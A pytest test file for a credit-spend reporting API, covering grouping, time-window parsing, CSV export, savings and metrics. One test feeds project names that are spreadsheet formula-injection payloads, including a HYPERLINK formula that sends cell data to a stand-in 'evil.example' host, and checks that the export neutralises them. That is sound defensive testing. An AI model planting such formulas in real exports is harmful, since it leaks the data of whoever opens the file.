"""GET /v1/spend: charged credits grouped for dashboards, filtered by time, as JSON or CSV."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar

import httpx
import pytest
from sqlalchemy import event
from sqlmodel import Session

from orchestrator.db import Database
from orchestrator.models import Job, Project
from orchestrator.schemas import GroupBy, Stage
from orchestrator.server import serve_in_thread
from orchestrator.settings import Settings
from tests.api import assert_error
from tests.credits import PRICE, get_json, ledger, make_draft, project_with_draft, promote_ok, wait_for_job
from tests.credits.conftest import POLICY

T = TypeVar("T")


@pytest.fixture(scope="module")
def spent(api: httpx.Client) -> dict[str, Any]:
    """A project with two drafts, a promotion at the list price, one at a reported 7.5 and one that
    timed out (captured unreconciled)."""
    project_id, asset_id = project_with_draft(api, {"limit": 1000, "period": "month"})
    make_draft(api, project_id, seed=8)
    jobs = [promote_ok(api, asset_id, tags=tags)["id"] for tags in ({}, {"cost": "7.5"}, {"fake": "timeout"})]
    done = [wait_for_job(api, job_id) for job_id in jobs]
    assert [j["status"] for j in done] == ["succeeded", "succeeded", "failed"]
    captures = [e for e in ledger(api, project_id) if e["kind"] == "capture"]
    return {"project_id": project_id, "captures": captures}


def report(api: httpx.Client, project_id: str, **params: Any) -> dict[str, Any]:
    result: dict[str, Any] = get_json(api, "/v1/spend", project_id=project_id, **params)
    return result


def test_groups(api: httpx.Client, spent: dict[str, Any]) -> None:
    project_id = spent["project_id"]
    day = datetime.fromisoformat(spent["captures"][0]["created_at"]).astimezone(UTC).date().isoformat()
    expected_group = {"charged": 2 * PRICE + 7.5, "unreconciled": PRICE, "unreconciled_entries": 1, "jobs": 3,
                      "images": 2}
    for group_by, key in (("engine", "fake-paid"), ("stage", "bridge"), ("project", project_id), ("day", day)):
        result = report(api, project_id, group_by=group_by)
        if group_by == "day" and len({c["created_at"][:10] for c in spent["captures"]}) > 1:
            continue  # the captures straddle midnight: the per-day split is checked by the total alone
        named = {"name": "credits"} if group_by == "project" else {}  # the project's, beside its id
        assert result["groups"] == [{"key": key, **expected_group, **named}], (group_by, result)
        assert result["total"] == 2 * PRICE + 7.5


def test_default_groups_by_day_and_totals_add_up(api: httpx.Client, spent: dict[str, Any]) -> None:
    result = report(api, spent["project_id"])
    assert result["groups"]
    assert round(sum(g["charged"] for g in result["groups"]), 3) == result["total"] == 27.5
    assert result["groups"] == sorted(result["groups"], key=lambda g: g["key"])


def test_time_filter(api: httpx.Client, spent: dict[str, Any]) -> None:
    project_id = spent["project_id"]
    first = min(datetime.fromisoformat(c["created_at"]) for c in spent["captures"])
    last = max(datetime.fromisoformat(c["created_at"]) for c in spent["captures"])
    everything = {"from": (first - timedelta(days=1)).isoformat(), "to": (last + timedelta(days=1)).isoformat()}
    assert report(api, project_id, group_by="engine", **everything)["total"] == 27.5
    later = report(api, project_id, group_by="engine", **{"from": (last + timedelta(seconds=1)).isoformat()})
    assert (later["groups"], later["total"]) == ([], 0)
    # `to` is exclusive: nothing captured before the first capture.
    earlier = report(api, project_id, group_by="engine", to=first.isoformat())
    assert (earlier["groups"], earlier["total"]) == ([], 0)
    zulu = report(api, project_id, group_by="engine", **{"from": "2000-01-01T00:00:00Z"})
    assert zulu["total"] == 27.5
    # Nanoseconds (Go's RFC3339Nano, .NET's "o"): a bound half a microsecond past a capture is
    # still past it, not cut back to it.
    at = first.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f") + "5Z"
    assert report(api, project_id, group_by="engine", to=at)["total"] > 0  # the first capture is before it
    after_first = report(api, project_id, group_by="engine", **{"from": at})
    assert after_first["total"] < 27.5 and after_first["from"].endswith("Z")
    lower = report(api, project_id, group_by="engine", **{"from": at.replace("T", "t").replace("Z", "z")})
    assert lower["from"] == after_first["from"]  # RFC 3339's lower-case letters: rounded up alike, not cut
    # Echoed as every time in the API is: UTC with a Z.
    offset = report(api, project_id, **{"from": "2000-01-01T00:00:00Z", "to": "2100-01-01T01:00:00+01:00"})
    assert (offset["from"], offset["to"]) == ("2000-01-01T00:00:00Z", "2100-01-01T00:00:00Z")


@pytest.mark.parametrize("params", [
    {"from": "2026-01-01T00:00:00"},
    {"to": "2026-01-01T00:00:00"},
    {"from": "2026-02-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"},
    {"from": "yesterday"},
    {"to": "0.5"},  # a bare number would otherwise be read as Unix seconds
    {"from": "1767225600"},
    {"from": "0001-01-01T00:00:00+01:00"},  # before year 1 once in UTC (was a 500)
    {"to": "9999-12-31T23:59:59-01:00"},
    {"from": "9999-12-31T23:59:59.9999999Z"},  # rounded up to the next microsecond: past the last one (was a 500)
    {"from": "2026-11-01T00:00:00,1234567Z"},  # ISO 8601's decimal comma: cut back, not rounded up as a point's
    {"group_by": "week"},
    {"format": "xml"},
])
def test_bad_parameters(api: httpx.Client, params: dict[str, str]) -> None:
    response = api.get("/v1/spend", params=params)
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "invalid_request"


@pytest.mark.parametrize(("value", "said"), [
    ("yesterday", "from: expected an RFC 3339 time, e.g. 2026-11-01T00:00:00Z"),
    ("2026-11-01T00:00:00,5Z", "from: expected an RFC 3339 time, e.g. 2026-11-01T00:00:00.5Z (a fraction after "
                               "a '.', not a ',')"),
    ("2026-11-01T24:00:00Z", "from: is out of range: hour must be in 0..23"),
    ("2026-11-01T00:00:60.5Z", "from: is out of range: second must be in 0..59"),
    ("2026-02-30T00:00:00Z", "from: is out of range: day is out of range for month"),
    ("2026-11-01T00:00:00+25:00", "from: is out of range: a zone's offset is less than 24 hours (-23:59 to +23:59)"),
])
def test_a_bad_time_is_told_what_is_wrong_with_it(api: httpx.Client, value: str, said: str) -> None:
    """An hour 24 or a second 60 was "unexpected extra characters at the end of the input", and
    every malformed time was told about a decimal point it did not have."""
    response = api.get("/v1/spend", params={"from": value})
    assert response.status_code == 422, response.text
    assert response.json()["error"]["message"] == said


def test_csv(api: httpx.Client, spent: dict[str, Any]) -> None:
    response = api.get("/v1/spend", params={"project_id": spent["project_id"], "group_by": "engine",
                                             "format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["key", "charged", "unreconciled", "jobs", "images"]
    assert rows[1] == ["fake-paid", "27.500", "10.000", "3", "2"]
    assert rows[-1][:2] == ["total", "27.500"]
    assert len(rows) == 3
    # Saved from several windows, the files do not overwrite one another.
    bounded = api.get("/v1/spend", params={"project_id": spent["project_id"], "format": "csv",
                                           "from": "2026-11-01T00:00:00Z"})
    project = spent["project_id"]
    assert bounded.headers["content-disposition"] == \
        f'attachment; filename="spend-{project}-by-day-from-20261101T000000Z.csv"'
    # Nor do those of several projects (grouped by engine, no row says whose it is).
    assert response.headers["content-disposition"] == f'attachment; filename="spend-{project}-by-engine.csv"'
    early = api.get("/v1/spend", params={"format": "csv", "from": "0001-01-01T00:00:00Z"})
    assert early.headers["content-disposition"] == 'attachment; filename="spend-by-day-from-00010101T000000Z.csv"'
    # Nor those of bounds half a second apart: the fraction moves the bound.
    half = api.get("/v1/spend", params={"format": "csv", "from": "2026-12-01T00:00:00.5Z",
                                        "to": "2026-12-02T00:00:00.000001Z"})
    assert half.headers["content-disposition"] == \
        'attachment; filename="spend-by-day-from-20261201T000000.5Z-to-20261202T000000.000001Z.csv"'


def test_by_project_the_groups_name_their_projects(api: httpx.Client, spent: dict[str, Any]) -> None:
    # A dashboard labelled its rows with ids only; names may hold commas and quotes.
    name = 'Acme, "Lighthouse" campaign'
    assert api.patch(f"/v1/projects/{spent['project_id']}", json={"name": name}).status_code == 200
    [group] = report(api, spent["project_id"], group_by="project")["groups"]
    assert (group["key"], group["name"], group["charged"]) == (spent["project_id"], name, 27.5)
    assert "name" not in report(api, spent["project_id"], group_by="engine")["groups"][0]
    response = api.get("/v1/spend", params={"project_id": spent["project_id"], "group_by": "project", "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0][-1] == "name" and rows[1][-1] == name and rows[1][:2] == [spent["project_id"], "27.500"]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"])
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
        api: httpx.Client, spent: dict[str, Any], name: str) -> None:
    # Quoted, the cell was still a formula to Excel and Sheets, run on whoever opened the export.
    assert api.patch(f"/v1/projects/{spent['project_id']}", json={"name": name}).status_code == 200
    response = api.get("/v1/spend", params={"project_id": spent["project_id"], "group_by": "project", "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[1][-1] == f"'{name}" and rows[1][1] == "27.500"
    assert report(api, spent["project_id"], group_by="project")["groups"][0]["name"] == name  # the JSON as it is


def test_a_charge_without_an_engine_reads_as_in_the_json() -> None:
    from orchestrator.spend import to_csv

    # A lone "-" (no engine, no stage) is no formula: it was exported as "'-".
    exported = to_csv({"group_by": "engine", "total": 1.0, "groups": [
        {"key": "-", "charged": 1.0, "unreconciled": 0.0, "jobs": 1, "images": 0},
        {"key": "-x", "charged": 0.0, "unreconciled": 0.0, "jobs": 0, "images": 0}]})
    assert [row[0] for row in csv.reader(io.StringIO(exported))] == ["key", "-", "'-x", "total"]


def test_an_engine_named_total_is_not_read_as_the_totals_row() -> None:
    from orchestrator.spend import to_csv

    # A plugin's engine named `total` (or one charged before such names were refused) wrote a row
    # keyed `total` above the totals row: a reader taking the first such row took one engine's sum.
    exported = to_csv({"group_by": "engine", "total": 3.0, "groups": [
        {"key": "total", "charged": 1.0, "unreconciled": 0.0, "jobs": 1, "images": 1},
        {"key": "Total", "charged": 2.0, "unreconciled": 0.0, "jobs": 1, "images": 1}]})
    rows = list(csv.reader(io.StringIO(exported)))
    assert [row[0] for row in rows] == ["key", "'total", "'Total", "total"]
    assert [row for row in rows if row[0].lower() == "total"] == [["total", "3.000", "", "", ""]]


def test_savings(api: httpx.Client, spent: dict[str, Any]) -> None:
    savings = report(api, spent["project_id"])["savings"]
    # Two 64x64 drafts, priced on the only priced remote engine (fake-unpriced cannot be priced).
    assert savings == {"drafts": 2, "credits": 2 * PRICE, "compared_with": "fake-paid"}


def test_a_project_that_spent_nothing_has_an_empty_report_and_an_unknown_one_is_404(api: httpx.Client) -> None:
    created = api.post("/v1/projects", json={"name": "idle"})
    assert created.status_code == 201, created.text
    result = get_json(api, "/v1/spend", project_id=created.json()["id"], group_by="project")
    assert (result["groups"], result["total"]) == ([], 0)
    assert result["savings"]["drafts"] == 0
    # A mistyped id is not a project that spent nothing (as on GET /v1/jobs?project_id=).
    missing = api.get("/v1/spend", params={"project_id": "prj_nobody", "format": "csv"})
    assert_error(missing, 404, "not_found")


def _database_with_a_job(tmp_path: Path, project_id: str, job_id: str, *, stage: Stage, engine: str) -> Database:
    """A migrated SQLite database holding one project with one succeeded job."""
    db = Database(f"sqlite:///{tmp_path}/o.db")
    db.migrate()
    with db.transaction() as s:
        s.add(Project(id=project_id, name=project_id, policy=POLICY))
        s.flush()
        s.add(Job(id=job_id, project_id=project_id, stage=stage, engine=engine, status="succeeded"))
    return db


def test_a_job_moved_to_another_engine_counts_its_images_for_the_engine_that_made_them(tmp_path: Path) -> None:
    """Captured on its first engine (which may have billed) and moved to another that made its two
    images, the job counted them under both engines, and on both days when the move crossed midnight."""
    from orchestrator.models import Asset, LedgerEntry
    from orchestrator.spend import spend

    db = _database_with_a_job(tmp_path, "prj_moved", "job_moved", stage="bridge", engine="engine-b")
    with db.transaction() as s:
        for engine, amount, day in (("engine-a", 1000, 1), ("engine-b", 2000, 2)):
            hold = LedgerEntry(project_id="prj_moved", job_id="job_moved", kind="hold", amount=amount, engine=engine,
                               stage="bridge", settled=True)
            s.add(hold)
            s.flush()
            s.add(LedgerEntry(project_id="prj_moved", job_id="job_moved", kind="capture", amount=amount,
                              engine=engine, stage="bridge", hold_id=hold.id, unreconciled=engine == "engine-a",
                              created_at=datetime(2026, 11, day, 23, 59, tzinfo=UTC)))
        for index in range(2):
            s.add(Asset(id=f"ast_moved{index}", project_id="prj_moved", job_id="job_moved", index=index,
                        stage="bridge", engine="engine-b", model="m", prompt="x", width=64, height=64,
                        sha256=f"{index}" * 64))
    with db.snapshot() as s:
        by_engine = spend(s, "engine", None, None, None)["groups"]
        by_stage = spend(s, "stage", None, None, None)["groups"]
        by_day = spend(s, "day", None, None, None)["groups"]
    db.dispose()
    assert [(g["key"], g["jobs"], g["images"]) for g in by_engine] == [("engine-a", 1, 0), ("engine-b", 1, 2)]
    assert [(g["key"], g["jobs"], g["images"]) for g in by_stage] == [("bridge", 1, 2)]
    assert [(g["key"], g["jobs"], g["images"]) for g in by_day] == [("2026-11-01", 1, 0), ("2026-11-02", 1, 2)]


def test_a_job_that_fell_back_to_a_free_engine_counts_its_images_with_its_latest_capture(tmp_path: Path) -> None:
    """Charged by a paid engine (an unknown outcome), then made by a free engine that captured
    nothing: its images were counted in no group, whichever the grouping. Counted once, on the day
    of its latest capture: in a window holding only an earlier capture they are not counted again."""
    from orchestrator.models import Asset, LedgerEntry
    from orchestrator.spend import spend

    db = _database_with_a_job(tmp_path, "prj_free", "job_free", stage="bridge", engine="engine-free")
    with db.transaction() as s:
        for amount, day in ((1000, 1), (2000, 2)):  # twice on the paid engine, the second one latest
            hold = LedgerEntry(project_id="prj_free", job_id="job_free", kind="hold", amount=amount,
                               engine="engine-paid", stage="bridge", settled=True)
            s.add(hold)
            s.flush()
            s.add(LedgerEntry(project_id="prj_free", job_id="job_free", kind="capture", amount=amount,
                              engine="engine-paid", stage="bridge", hold_id=hold.id, unreconciled=True,
                              created_at=datetime(2026, 11, day, 12, tzinfo=UTC)))
        for index in range(3):
            s.add(Asset(id=f"ast_free{index}", project_id="prj_free", job_id="job_free", index=index,
                        stage="bridge", engine="engine-free", model="m", prompt="x", width=64, height=64,
                        sha256=f"{index}" * 64))
    with db.snapshot() as s:
        reports = {group_by: spend(s, group_by, None, None, None)["groups"]
                   for group_by in ("engine", "stage", "project", "day")}
        first_day = spend(s, "engine", datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 11, 2, tzinfo=UTC), None)
    db.dispose()
    assert [(g["key"], g["jobs"], g["images"]) for g in reports["engine"]] == [("engine-paid", 1, 3)]
    assert [(g["key"], g["jobs"], g["images"]) for g in reports["stage"]] == [("bridge", 1, 3)]
    assert [(g["key"], g["jobs"], g["images"]) for g in reports["project"]] == [("prj_free", 1, 3)]
    assert [(g["key"], g["jobs"], g["images"]) for g in reports["day"]] == [("2026-11-01", 1, 0),
                                                                             ("2026-11-02", 1, 3)]
    assert [(g["key"], g["jobs"], g["images"]) for g in first_day["groups"]] == [("engine-paid", 1, 0)]


def test_savings_compare_only_with_an_engine_whose_estimate_is_a_price(tmp_path: Path) -> None:
    """A plugin's estimate of a fraction of a millicredit (or a negative one) is no price to
    routing, which never sends there for it; the savings figure compared the drafts with it."""
    from types import SimpleNamespace

    from orchestrator.models import Asset
    from orchestrator.spend import savings

    def engine(name: str, kind: str, estimate: object) -> SimpleNamespace:
        return SimpleNamespace(name=name, kind=kind, stages=frozenset({"bridge"}), availability=lambda: (True, None),
                               estimate=lambda req: estimate)

    db = _database_with_a_job(tmp_path, "prj_saved", "job_draft", stage="ideation", engine="lite")
    with db.transaction() as s:
        s.add(Asset(id="ast_draft", project_id="prj_saved", job_id="job_draft", index=0, stage="ideation",
                    engine="lite", model="m", prompt="x", width=64, height=64, sha256="a" * 64))
    registry = [engine("lite", "local", 0), engine("odd", "remote", 0.5), engine("paid", "remote", 4000)]
    with db.snapshot() as s:
        result = savings(s, registry, None, None, "prj_saved")  # type: ignore[arg-type]
    db.dispose()
    assert result == {"drafts": 1, "credits": 4.0, "compared_with": "paid"}


def test_a_csv_report_does_not_count_the_drafts_it_has_no_column_for(
        api: httpx.Client, spent: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    from orchestrator.api import credits

    counted: list[str | None] = []

    def savings(*args: Any) -> dict[str, Any]:
        counted.append(args[-1])
        return {"drafts": 0, "credits": 0.0, "compared_with": None}

    monkeypatch.setattr(credits, "savings", savings)
    assert api.get("/v1/spend", params={"project_id": spent["project_id"], "format": "csv"}).status_code == 200
    assert counted == []
    assert report(api, spent["project_id"])["savings"]["drafts"] == 0  # the JSON still has them
    assert counted == [spent["project_id"]]


def test_savings_count_rendered_drafts_from_indexes_alone(tmp_path: Path) -> None:
    """Copies of an earlier result and a paid engine's drafts are left out. The drafts are counted
    from `ix_assets_stage_size` and the copies looked up in `ix_jobs_cache_hits`: reading each
    draft's row and every job's, a report took about 100 ms at 100k drafts (bench/history.py), and
    grew with the studio's history."""
    from types import SimpleNamespace

    from orchestrator.models import Asset
    from orchestrator.spend import savings

    def engine(name: str, kind: str, estimate: int) -> SimpleNamespace:
        return SimpleNamespace(name=name, kind=kind, stages=frozenset({"bridge"}), availability=lambda: (True, None),
                               estimate=lambda req: estimate)

    db = _database_with_a_job(tmp_path, "prj_saved", "job_drawn", stage="ideation", engine="lite")
    with db.transaction() as s:
        s.add(Job(id="job_copy", project_id="prj_saved", stage="ideation", engine="lite", status="succeeded",
                  cache_hit=True))
        s.add(Job(id="job_paid", project_id="prj_saved", stage="ideation", engine="paid", status="succeeded"))
        s.flush()
        for n, (job_id, engine_name) in enumerate((("job_drawn", "lite"), ("job_drawn", "lite"),
                                                   ("job_copy", "lite"), ("job_paid", "paid"))):
            s.add(Asset(id=f"ast_{n}", project_id="prj_saved", job_id=job_id, index=n, stage="ideation",
                        engine=engine_name, model="m", prompt="x", width=64, height=64, sha256=f"{n:064x}"))
    registry = [engine("lite", "local", 0), engine("paid", "remote", 4000)]
    result, seen = _read_with_statements(db, lambda s: savings(s, registry, None, None, None))  # type: ignore[arg-type]
    assert result == {"drafts": 2, "credits": 8.0, "compared_with": "paid"}
    plan = _plan(tmp_path, *next((q, p) for q, p in seen if "FROM assets" in q))
    assert "COVERING INDEX ix_assets_stage_size" in plan and "ix_jobs_cache_hits" in plan, plan
    assert "SCAN jobs\n" not in plan + "\n", plan


def test_project_names_are_read_in_bounded_queries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # A report across thousands of projects must not put them all in one IN list (SQLite's bound
    # parameters): read a few at a time here, two per query.
    from orchestrator import spend as spend_module
    from orchestrator.models import LedgerEntry

    monkeypatch.setattr(spend_module, "NAMES_PER_QUERY", 2)
    db = Database(f"sqlite:///{tmp_path}/o.db")
    db.migrate()
    with db.transaction() as s:
        for i in range(5):
            s.add(Project(id=f"prj_{i}", name=f"studio {i}", policy=POLICY))
            s.flush()
            s.add(LedgerEntry(project_id=f"prj_{i}", kind="capture", amount=1000 * (i + 1), engine="e", stage="bridge"))
    with db.snapshot() as s:
        groups = spend_module.spend(s, "project", None, None, None)["groups"]
    db.dispose()
    assert [(g["key"], g["name"], g["charged"]) for g in groups] == [(f"prj_{i}", f"studio {i}", i + 1.0)
                                                                      for i in range(5)]


def test_metrics_tell_credits_charged_held_and_unreconciled(paid_settings_for: Callable[..., Settings],
                                                            tmp_path: Path) -> None:
    """For dashboards that scrape rather than ask /v1/spend (a service of its own: totals)."""
    until = tmp_path / "sent"
    with serve_in_thread(paid_settings_for(tmp_path / "data")) as base, \
            httpx.Client(base_url=base, timeout=30.0) as api:
        _project_id, asset_id = project_with_draft(api)
        for tags in ({"cost": "7.5"}, {"fake": "timeout"}):  # reported, then captured at the estimate
            wait_for_job(api, promote_ok(api, asset_id, tags=tags)["id"])
        waiting = promote_ok(api, asset_id, tags={"fake": "wait-before-send", "until": str(until)})
        wait_for_job(api, waiting["id"], ("running",))  # claimed: its hold is out, and it runs
        text = api.get("/metrics").text
        until.touch()
        assert wait_for_job(api, waiting["id"])["status"] == "succeeded"
        after = api.get("/metrics").text
    assert f'orchestrator_credits_charged{{engine="fake-paid",stage="bridge"}} {7.5 + PRICE}' in text
    assert f'orchestrator_credits_held{{engine="fake-paid"}} {PRICE}' in text
    assert f'orchestrator_credits_unreconciled{{engine="fake-paid"}} {PRICE}' in text
    assert 'orchestrator_ledger_unreconciled_entries{engine="fake-paid"} 1' in text
    assert f'orchestrator_credits_charged{{engine="fake-paid",stage="bridge"}} {7.5 + 2 * PRICE}' in after
    assert f'orchestrator_credits_held{{engine="fake-paid"}} {0.0}' in after  # settled: 0, not absent
    assert 'orchestrator_credits_unreconciled{engine="lite"} 0.0' in after
    assert 'orchestrator_ledger_unreconciled_entries{engine="lite"} 0' in after
    # A series whose last job moved on, or that never had one, reads 0: absent, Prometheus sees no
    # data, and an alert on `orchestrator_jobs{status="running"} == 0` never fires.
    assert 'orchestrator_jobs{stage="bridge",engine="fake-paid",status="running"} 1' in text
    assert 'orchestrator_jobs{stage="bridge",engine="fake-paid",status="running"} 0' in after
    assert 'orchestrator_jobs{stage="polish",engine="fake-queue",status="canceled"} 0' in after
    assert 'orchestrator_credits_charged{engine="fake-queue",stage="polish"} 0.0' in after
    assert 'orchestrator_assets{stage="polish"} 0' in after


def test_a_window_of_every_project_is_read_by_its_time(tmp_path: Path) -> None:
    """A dashboard's "this month, every project" on SQLite walked every capture ever written (the
    kind's equality on another index): 790 ms at 100k captures over three years, for one month."""
    from orchestrator.models import LedgerEntry
    from orchestrator.spend import spend

    db = _database_with_a_job(tmp_path, "prj_window", "job_window", stage="bridge", engine="e")
    with db.transaction() as s:
        s.add(LedgerEntry(project_id="prj_window", job_id="job_window", kind="capture", amount=1000, engine="e",
                          stage="bridge", created_at=datetime(2026, 6, 2, tzinfo=UTC)))
    month = (datetime(2026, 6, 1, tzinfo=UTC), datetime(2026, 7, 1, tzinfo=UTC))
    report, seen = _read_with_statements(db, lambda s: spend(s, "engine", *month, None))
    assert report["total"] == 1.0
    ledger_reads = [(q, p) for q, p in seen if "FROM ledger_entries" in q]
    # the sums, the unreconciled entries, the images' jobs, the jobs whose images' engine captured nothing
    assert len(ledger_reads) == 4
    for statement, parameters in ledger_reads:
        plan = _plan(tmp_path, statement, parameters)
        assert "COVERING INDEX ix_ledger_charges_window (kind=? AND created_at>? AND created_at<?)" in plan, plan


def _read_with_statements(db: Database, read: Callable[[Session], T]) -> tuple[T, list[tuple[str, Any]]]:
    """What `read` answers on a snapshot of `db` (disposed of after), and the statements it ran."""
    seen: list[tuple[str, Any]] = []

    def before(conn: Any, cursor: Any, statement: str, parameters: Any, context: Any, executemany: bool) -> None:
        seen.append((statement, parameters))

    event.listen(db.engine, "before_cursor_execute", before)
    try:
        with db.snapshot() as s:
            return read(s), seen
    finally:
        event.remove(db.engine, "before_cursor_execute", before)
        db.dispose()


def _plan(tmp_path: Path, statement: str, parameters: Any) -> str:
    """SQLite's plan of a statement on the test's database (`_database_with_a_job`'s)."""
    with sqlite3.connect(tmp_path / "o.db") as conn:
        return "\n".join(row[3] for row in conn.execute(f"EXPLAIN QUERY PLAN {statement}", parameters))


def test_savings_compare_the_drafts_with_engines_that_take_them_on(tmp_path: Path) -> None:
    """Priced as bridges, the drafts were compared with a remote engine of another stage (a
    polish-only upscaler) that still answered a bridge's estimate, at a meaningless price."""
    from types import SimpleNamespace

    from orchestrator.models import Asset
    from orchestrator.spend import savings

    db = _database_with_a_job(tmp_path, "prj_saved", "job_drawn", stage="ideation", engine="lite")
    with db.transaction() as s:
        s.add(Asset(id="ast_0", project_id="prj_saved", job_id="job_drawn", stage="ideation", engine="lite",
                    model="m", prompt="x", width=64, height=64, sha256="0" * 64))

    def remote(name: str, stages: set[str], price: int) -> SimpleNamespace:
        return SimpleNamespace(name=name, kind="remote", stages=frozenset(stages), availability=lambda: (True, None),
                               estimate=lambda req: price)

    engines = [SimpleNamespace(name="lite", kind="local", stages=frozenset({"ideation"})),
               remote("upscaler", {"polish"}, 500), remote("bridger", {"bridge", "polish"}, 4000)]
    with db.snapshot() as s:
        result = savings(s, engines, None, None, None)  # type: ignore[arg-type]
    assert result == {"drafts": 1, "credits": 4.0, "compared_with": "bridger"}


# A microsecond either side of the UTC midnights that end a day and an ISO week (2026-11-30 is a
# Monday), a month, and a year: where a window read in another zone, or a bound taken the wrong
# side, moves a charge into the next report.
_EDGES = (datetime(2026, 11, 29, 23, 59, 59, 999999, tzinfo=UTC), datetime(2026, 11, 30, tzinfo=UTC),
          datetime(2026, 11, 30, 23, 59, 59, 999999, tzinfo=UTC), datetime(2026, 12, 1, tzinfo=UTC),
          datetime(2026, 12, 31, 23, 59, 59, 999999, tzinfo=UTC), datetime(2027, 1, 1, tzinfo=UTC))


def check_windows_add_up(db: Database) -> None:
    """Paid jobs captured at `_EDGES`, each reconciled (a signed adjustment) a microsecond later:
    each budget window's `charged` is the spend of that window, by every grouping, and both are
    the ledger's captures net of its adjustments in it; a job and its images count on its capture's day."""
    from orchestrator.ledger import Ledger
    from orchestrator.models import Asset, LedgerEntry, LedgerKind
    from orchestrator.spend import spend

    charges: list[tuple[datetime, int, str | None, int]] = []  # (time, amount, job captured, its images)
    with db.transaction() as s:
        project = Project(id="prj_edges", name="edges", policy=POLICY, budget_limit=10**6)
        s.add(project)
        s.flush()
        for n, at in enumerate(_EDGES, start=1):
            job_id, engine = f"job_edge{n}", f"engine-{n % 2}"
            s.add(Job(id=job_id, project_id=project.id, stage="bridge", engine=engine, status="succeeded"))
            s.flush()
            hold = LedgerEntry(project_id=project.id, job_id=job_id, kind="hold", amount=10_000 * n, engine=engine,
                               stage="bridge", settled=True, created_at=at - timedelta(minutes=1))
            s.add(hold)
            s.flush()
            settled: tuple[tuple[LedgerKind, int, datetime], ...] = (
                ("capture", 1000 * n, at), ("release", 10_000 * n - 1000 * n, at),
                ("adjustment", 300 - 100 * n, at + timedelta(microseconds=1)))
            for kind, amount, when in settled:
                s.add(LedgerEntry(project_id=project.id, job_id=job_id, kind=kind, amount=amount, engine=engine,
                                  stage="bridge", hold_id=hold.id, unreconciled=False, created_at=when))
            for index in range(n):
                s.add(Asset(id=f"ast_edge{n}_{index}", project_id=project.id, job_id=job_id, index=index,
                            stage="bridge", engine=engine, model="m", prompt="x", width=64, height=64,
                            sha256=f"{n}{index}".ljust(64, "0")))
            charges += [(at, 1000 * n, job_id, n), (at + timedelta(microseconds=1), 300 - 100 * n, None, 0)]
        s.add(LedgerEntry(project_id=project.id, kind="grant", amount=5000, created_at=_EDGES[3]))  # not spend

    def expected(start: datetime | None, end: datetime | None) -> tuple[int, int, int]:
        inside = [c for c in charges if (start is None or c[0] >= start) and (end is None or c[0] < end)]
        return sum(c[1] for c in inside), sum(1 for c in inside if c[2]), sum(c[3] for c in inside)

    def read(group_by: GroupBy, start: datetime | None, end: datetime | None) -> tuple[int, int, int]:
        with db.snapshot() as s:
            report = spend(s, group_by, start, end, "prj_edges")
        groups = report["groups"]
        assert round(sum(g["charged"] for g in groups) * 1000) == round(report["total"] * 1000), report
        return round(report["total"] * 1000), sum(g["jobs"] for g in groups), sum(g["images"] for g in groups)

    groupings: tuple[GroupBy, ...] = ("day", "engine", "stage", "project")
    for group_by in groupings:
        assert read(group_by, None, None) == expected(None, None), group_by
    with db.snapshot() as s:
        days = {g["key"]: (g["jobs"], g["images"]) for g in spend(s, "day", None, None, "prj_edges")["groups"]}
    assert days == {at.date().isoformat(): (sum(1 for e in _EDGES if e.date() == at.date()),
                                            sum(n for n, e in enumerate(_EDGES, start=1) if e.date() == at.date()))
                    for at in _EDGES}
    for now in _EDGES:
        for period in ("day", "week", "month", "none"):
            with db.transaction() as s:
                edited = s.get(Project, "prj_edges")
                assert edited is not None
                edited.budget_period = period
            with db.snapshot() as s:
                current = s.get(Project, "prj_edges")
                assert current is not None
                balance = Ledger(clock=_stopped_at(now)).balance(s, current)
            start, end = balance.window_start, balance.window_end
            assert (balance.charged, balance.granted) == (expected(start, end)[0], 5000 if period == "none" or (
                start is not None and end is not None and start <= _EDGES[3] < end) else 0), (period, now)
            for group_by in groupings:
                assert read(group_by, start, end) == expected(start, end), (period, now, group_by)


def _stopped_at(moment: datetime) -> Callable[[], datetime]:
    return lambda: moment


def test_every_window_adds_up_at_its_edges(sqlite_db: Database) -> None:
    check_windows_add_up(sqlite_db)
